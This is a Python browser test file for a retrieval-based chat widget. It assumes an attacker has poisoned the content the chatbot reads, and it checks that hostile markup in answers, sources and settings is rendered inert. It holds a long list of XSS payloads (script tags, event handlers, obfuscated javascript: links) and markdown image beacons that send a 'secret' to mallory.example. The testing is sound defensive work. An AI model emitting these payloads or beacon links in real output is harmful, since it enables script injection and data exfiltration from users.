"""Mallory has written into what the chatbot reads, and so into what it answers."""

from __future__ import annotations

from uuid import uuid4

import pytest
from browsing import Watched, last_answer
from chatting import Visit, ask, open_chat
from hosting import Hosts
from payloads import payloads
from playwright.sync_api import expect

from ragwidget.chat.events import SourceRef, Sources

pytestmark = pytest.mark.browser

BEACON = "https://mallory.example/beacon"
HTML = f"""<script>ran("script")</script>
<img src="{BEACON}.png" onerror="ran('onerror')"> <img src=x onerror=ran("attribute")>
<svg onload="ran('svg')"><script>ran("svg script")</script></svg>
<iframe srcdoc="<script>parent.ran('srcdoc')</script>"></iframe>
<iframe src="javascript:parent.ran('frame')"></iframe>
<details open ontoggle="ran('toggle')"><summary>Look</summary></details>
<form action="{BEACON}"><input autofocus onfocus="ran('focus')"><button>Go</button></form>
<a href="javascript:ran('anchor')">raw link</a> <style>h1 {{ display: none }}</style>
<link rel="stylesheet" href="{BEACON}.css"> <base href="{BEACON}/">
<meta http-equiv="refresh" content="0;url={BEACON}"> <object data="{BEACON}"></object>
<video src="{BEACON}.mp4" autoplay></video> <x-y style="background:url({BEACON}.gif)">x</x-y>"""
LINKS = [
    "[click](javascript:ran('link'))",
    "[click](JaVaScRiPt:ran('case'))",
    "[click](java\tscript:ran('tab'))",
    "[click](&#106;avascript:ran('entity'))",
    "[click](<javascript:ran('brackets')>)",
    "[click](javascript&colon;ran('colon'))",
    "[click](%6aavascript:ran('percent'))",
    "[click](\x01javascript:ran('control'))",
    "[click](vbscript:ran('vb'))",
    "[click](data:text/html,<script>opener.ran('data')</script>)",
    "[click](blob:https://mallory.example/1)",
    "[click](//mallory.example/relative)",
    "[click](/sign-out)",
    '[click](https://example.org "onclick=ran(1)" onclick="ran(\'title\')")',
    "<javascript:ran('autolink')>",
    "[click][reference]\n\n[reference]: javascript:ran('reference')",
]
IMAGES = [
    f"![a]({BEACON}.png?q=secret)",
    f"![a](<{BEACON}.png>)",
    f"![a][beacon]\n\n[beacon]: {BEACON}.png",
    f"[![a]({BEACON}.png)]({BEACON})",
    f"![a](\n{BEACON}.png)",
    f"# ![a]({BEACON}.png)",
    f"| ![a]({BEACON}.png) |\n| --- |\n| ![a]({BEACON}.png) |",
    "![a](data:image/svg+xml,<svg onload=ran('image')>)",
    f"```html\n<img src={BEACON}.png>\n```",
]
ATTACK = "\n\n".join([HTML, *LINKS, *IMAGES, "The end."])
SPY = """<script>
  window.happened = [];
  window.ran = (what) => happened.push(what);
  for (const name of ["alert", "open"]) window[name] = () => ran(name);
</script>"""
NODES = """() => {
  const { shadowRoot: root } = document.querySelector("rag-widget");
  const of = (nodes, read) => [...nodes].map(read);
  const words = root.querySelector("[role=log]");
  return {
    tags: [...new Set(of(words.querySelectorAll("*"), (node) => node.localName))],
    handlers: of(words.querySelectorAll("*"), (node) => node.getAttributeNames())
      .flat().filter((name) => name.startsWith("on") || name === "style" || name === "src"),
    links: of(words.querySelectorAll("a[href]"), (node) => {
      return [node.protocol, node.rel, node.target].join(" ");
    }),
  };
}"""
HARMLESS = {
    *("a", "article", "button", "div", "p", "path", "small", "span", "svg"),
    *("blockquote", "br", "code", "del", "em", "h3", "h4", "h5", "h6", "hr", "pre", "strong"),
    *("details", "li", "ol", "summary", "table", "tbody", "td", "th", "thead", "time", "tr", "ul"),
}


def victim(hosts: Hosts, visit: Visit) -> tuple[Watched, list[str]]:
    """Open a page that counts what is run, with all requests that it makes."""
    victor = visit("about:blank")
    asked: list[str] = []
    victor.page.on("request", lambda request: asked.append(request.url))
    victor.page.goto(hosts.page(head=SPY))
    open_chat(victor.page)
    return victor, asked


def check_harmless(hosts: Hosts, victor: Watched, asked: list[str]) -> None:
    """Fail if anything ran, was fetched, or could still be followed into a script."""
    page = victor.page
    found = page.evaluate(NODES)
    assert set(found["tags"]) <= HARMLESS
    assert found["handlers"] == []
    assert set(found["links"]) <= {
        f"{scheme}: noopener noreferrer nofollow _blank" for scheme in ("http", "https", "mailto")
    }
    page.locator("rag-widget summary").evaluate_all("(all) => all.forEach((one) => one.click())")
    page.get_by_role("link", name="click").evaluate_all(
        "(all) => all.forEach((one) => one.dispatchEvent(new MouseEvent('mouseenter')))"
    )
    assert page.evaluate("happened") == []
    assert [url for url in asked if not url.startswith((hosts.product, hosts.site, "data:,"))] == []
    expect(page.get_by_role("heading", name="Somebody else’s website")).to_be_visible()
    assert page.evaluate("document.baseURI") == page.url


@pytest.mark.parametrize("pieces", [[ATTACK], list(ATTACK)], ids=["whole", "by character"])
def test_nothing_in_an_answer_runs_or_is_fetched(
    hosts: Hosts, visit: Visit, pieces: list[str]
) -> None:
    victor, asked = victim(hosts, visit)
    hosts.engine.will_say(*pieces)
    ask(victor.page, "What do you say?", "The end.")

    expect(last_answer(victor.page)).to_contain_text('<script>ran("script")</script>')
    check_harmless(hosts, victor, asked)

    victor.page.reload()
    expect(last_answer(victor.page)).to_contain_text("The end.")
    check_harmless(hosts, victor, asked)


def test_nothing_of_the_whole_book_of_tricks_runs_or_is_fetched(hosts: Hosts, visit: Visit) -> None:
    victor, asked = victim(hosts, visit)
    hosts.engine.will_say("\n\n".join([*payloads(), "The end."]))
    ask(victor.page, " ".join(payloads())[:2000], "The end.")
    check_harmless(hosts, victor, asked)

    victor.page.reload()
    expect(last_answer(victor.page)).to_contain_text("The end.")
    check_harmless(hosts, victor, asked)


def test_nothing_around_an_answer_runs_or_is_fetched(hosts: Hosts, visit: Visit) -> None:
    """Titles, passages and addresses of sources are Mallory's, too; so may be the settings."""
    evil = {"name": HTML[:90], "welcome": ATTACK[:500], "suggested_questions": [HTML[:100]]}
    hosts.change(**evil, strings={"footnote": HTML[:200], "sources": "<b onclick=ran(1)>Sources"})
    victor, asked = victim(hosts, visit)
    addresses = ["javascript:ran('source')", "data:text/html,x", BEACON]
    sources = (
        SourceRef(n, str(uuid4()), HTML, "page", None, url, ATTACK[:900], 1.0, ((0, 4),))
        for n, url in enumerate(addresses, 1)
    )
    hosts.engine.will_say("Said by Mallory. The end.", Sources(tuple(sources)))
    ask(victor.page, "Who said so?", "The end.")

    marks = last_answer(victor.page).get_by_role("button", name="Source 1:")
    marks.click()
    expect(victor.page.get_by_role("note")).to_contain_text('ran("script")')
    victor.page.keyboard.press("Escape")
    check_harmless(hosts, victor, asked)
    hosts.change(name="Alice", welcome="", suggested_questions=[], strings={})
